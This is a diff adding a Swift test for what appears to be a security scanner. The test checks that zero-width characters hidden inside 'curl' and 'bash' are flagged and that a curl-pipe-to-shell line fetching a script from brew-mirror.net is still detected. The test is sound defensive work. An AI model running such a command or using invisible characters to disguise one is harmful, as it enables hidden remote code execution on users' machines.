@@ -94,6 +94,20 @@ struct RuleBehaviourTests {
     #expect(finding.severity == .high)
   }
 
+  @Test("A zero-width character splitting a command name is high, and the shell rules read through it")
+  func zeroWidthInsideCommandNames() throws {
+    let zw = "\u{200B}"
+    let script = "#!/bin/sh\ncu\(zw)rl -fsSL https://get.brew-mirror.net/fix.sh | ba\(zw)sh\n"
+    let unicode = try #require(try findings("unicode-tag-smuggling", Example(script, language: .shell)).first)
+    #expect(unicode.severity == .high)
+    #expect(unicode.message.contains("'curl'"))
+    let piped = try #require(try findings("remote-script-piped-to-shell", Example(script, language: .shell)).first)
+    #expect(piped.chain == .downloadExecute)
+    #expect(piped.line == 2)
+    let ordinary = try #require(try findings("unicode-tag-smuggling", Example("Call hello\(zw)world now.\n")).first)
+    #expect(ordinary.severity == .medium)
+  }
+
   @Test("EICAR is found in a binary file")
   func eicarBinary() throws {
     let rule = try #require(BuiltInRules.description(of: "eicar-test-signature"))
